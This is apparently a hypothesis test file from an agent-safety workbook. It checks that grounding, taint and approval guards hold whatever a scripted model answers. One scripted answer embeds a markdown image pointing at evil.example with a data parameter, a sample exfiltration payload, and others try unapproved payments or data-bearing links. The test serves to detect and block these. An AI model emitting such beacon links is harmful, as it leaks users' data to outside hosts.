"""Guarded, grounded and under taint: what holds whatever a model says."""

from functools import partial
from itertools import product
from types import SimpleNamespace

from hypothesis import given, settings
from hypothesis import strategies as st

from workbook.lessons.grounding import (
    VERIFY,
    Support,
    audit_answer,
    citing_preamble,
    evidence_of,
    grounding,
)
from workbook.lessons.matcher import addresses_in
from workbook.lessons.untrusted import taint
from workbook.runtime.budget import Budget
from workbook.runtime.guards import all_guards
from workbook.runtime.machine import Machine
from workbook.runtime.model import ToolRequest
from workbook.runtime.permission import Edit, PolicyRule, Verdict, no, yes
from workbook.runtime.replay import replay
from workbook.runtime.script import Script
from workbook.runtime.tools import Tool
from workbook.worlds.search import wiki_search

CODE = "7291-blue"
INPUT = {"properties": {"input": {"type": "string"}}, "required": ["input"]}
ANYTHING = (PolicyRule(Verdict.ALLOW, why="the user allows all of it"),)
TRUE = "Mount Fuji is 3,776 m high [w068]."
ANSWERS = [
    TRUE,
    "Mount Fuji is 3,767 m high [w068].",
    "I do not know.",
    "Shall I show ![](https://evil.example/p?d=1)?",
    f"{TRUE} Shall I open https://a.example/x?",
    f"{TRUE} Shall I open https://a.example/x?d=1?",
    "It is paid.",
    "?",
]
CALLED = [("WikiSearch", "height of Mount Fuji")] * 3 + [("Inbox", "x"), ("No", "x")]
CALLED += [("Pay", "Ada"), ("Pay", "Bob")]
TEXTS = [f"Action: {name}\nAction Input: {what}" for name, what in CALLED] + ["Hm."]
TEXTS += [f"Final Answer: {answer}" for answer in ANSWERS]
REQUESTS = [
    ToolRequest(name, {"input": what}, call_id)
    for (name, what), call_id in product(CALLED, ["", "a", "b"])
]
PEOPLE = [yes, no, lambda request: None, lambda request: Edit({"input": "Eve"})]
texts = st.lists(st.sampled_from(TEXTS), max_size=7)
requests = st.lists(st.sampled_from(REQUESTS), min_size=1, max_size=3)
calls = st.lists(requests | st.sampled_from(ANSWERS), max_size=6)
people = st.lists(st.sampled_from(PEOPLE), max_size=4)


def whole_machine(turns, chat, screened, person=None):
    """Return a machine with all of it, under rules of the user that allow anything."""
    ours = {"timeout_s": None, "outside": False}
    inbox = Tool("Inbox", "Reads.", INPUT, lambda input: {"result": CODE}, **ours)
    pay = Tool("Pay", "Pays.", INPUT, lambda input: {"result": "paid"}, "write", **ours)
    how = {"private": ["Inbox"], "screened": screened, "fence": True}
    guards = all_guards(Budget(8), person, rules=ANYTHING)
    guards = [*grounding(), taint(person, then=VERIFY, **how), *guards]
    script, tools = Script(turns, repeat_last=True), [wiki_search(), inbox, pay]
    before = citing_preamble(tools, chat)
    return Machine(script, tools, guards, chat=chat, preamble=before)


@settings(max_examples=100, deadline=None)
@given(
    turns=texts | calls,
    answers=people,
    screened=st.booleans(),
    question=st.sampled_from(["How high is it?", "Does https://a.example/x say so?"]),
)
def test_whatever_a_script_says_the_promises_hold(turns, answers, screened, question):
    """one end; no claim, WRITE or address that nothing carries; each call one answer"""
    chat, left = any(isinstance(turn, list) for turn in turns), iter(answers)
    make = partial(whole_machine, chat=chat, screened=screened)
    turns = [*turns, "Final Answer: I do not know."]
    end = make(turns, person=lambda request: next(left, no)(request)).run(question)
    trace = end.trace
    assert len(trace.of("run_finished")) == (end.state != "SUSPENDED")
    assert (end.answer is not None) == (end.state == "DONE")
    seen, tainted, approved = trace.of("observation"), False, set()
    for event in trace:
        if event["kind"] == "decision" and event["what"] in ("approve", "edit"):
            approved.add(event["call_id"])
        elif event["kind"] == "observation":
            if event["tool"] == "Pay" and event["ok"]:
                assert not tainted or event["call_id"] in approved
            tainted |= event["tool"] == "WikiSearch" and event["ok"]
    if end.state == "DONE":
        answer = end.answer.split("\n\nReferences:\n")[0]
        found = [SimpleNamespace(result=event.get("result")) for event in seen]
        verdicts = audit_answer(answer, evidence_of(found))
        assert {each.kind for each in verdicts} <= {Support.SUPPORTED}
        if tainted:
            assert set(addresses_in(end.answer)) <= set(addresses_in(question))
    called = [event["call_id"] for event in trace.of("tool_call")]
    observed = [event["call_id"] for event in seen if event["call_id"]]
    assert len(called) == len(set(called))
    assert observed == called
    again = replay(trace, make(turns[:1]))
    assert (again.state, again.answer) == (end.state, end.answer)
